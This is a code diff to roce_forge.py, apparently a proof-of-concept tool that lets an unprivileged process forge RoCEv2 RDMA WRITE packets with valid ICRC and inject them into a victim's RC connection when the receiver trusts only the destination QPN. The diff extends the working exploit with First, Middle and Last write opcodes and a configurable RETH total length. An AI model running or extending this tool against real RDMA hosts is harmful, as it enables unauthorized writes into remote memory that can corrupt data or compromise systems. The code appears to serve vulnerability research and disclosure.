@@ -3,11 +3,13 @@
 #
 # roce_forge.py: what any unprivileged process can do to an RC connection
 # when a RoCEv2 receiver trusts the destination QPN alone. It sends RC
-# RDMA WRITE Only packets with a correct ICRC through an ordinary UDP
+# RDMA WRITE packets (Only by default; --op first with a RETH of --total
+# bytes, or middle, or last) with a correct ICRC through an ordinary UDP
 # socket (no raw socket, no capability):
 #
 #   roce_forge.py --src IP --dst IP --qpn N --psn N --va ADDR --rkey KEY
 #                 [--pkey P] [--count N] [--len BYTES] [--fill BYTE]
+#                 [--op only|first|middle|last] [--total BYTES]
 #
 # The socket is bound to --src, which must be an address of this host;
 # the kernel writes the IP header, so the ICRC is computed over the header
@@ -21,7 +23,8 @@ import struct
 import zlib
 
 ROCE_PORT = 4791
-OP_RC_RDMA_WRITE_ONLY = 0x0a
+# RC RDMA WRITE opcodes (IBTA table 38); First and Only carry a RETH.
+OPS = {'first': 0x06, 'middle': 0x07, 'last': 0x08, 'only': 0x0a}
 IP_MTU_DISCOVER = 10     # <linux/in.h>; not in Python's socket module
 IP_PMTUDISC_DO = 2
 
@@ -40,9 +43,12 @@ def icrc(image):
 def packet(src, sport, dst, a):
     payload = bytes([a.fill]) * a.len
     pad = -a.len % 4
-    bth = struct.pack('>BBHI I', OP_RC_RDMA_WRITE_ONLY, pad << 4, a.pkey,
+    bth = struct.pack('>BBHI I', OPS[a.op], pad << 4, a.pkey,
                       a.qpn & 0xffffff, a.psn & 0xffffff)
-    reth = struct.pack('>QII', a.va, a.rkey, a.len)
+    reth = b''
+    if a.op in ('first', 'only'):
+        reth = struct.pack('>QII', a.va, a.rkey,
+                           a.total if a.op == 'first' else a.len)
     body = bth + reth + payload + b'\0' * pad
     udp_len = 8 + len(body) + 4
     iph = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, 0, 0x4000, 64,
@@ -64,6 +70,8 @@ def main():
     p.add_argument('--count', type=int, default=1)
     p.add_argument('--len', type=int, default=64)
     p.add_argument('--fill', type=lambda x: int(x, 0), default=0xee)
+    p.add_argument('--op', choices=sorted(OPS), default='only')
+    p.add_argument('--total', type=int, default=0)
     a = p.parse_args()
 
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
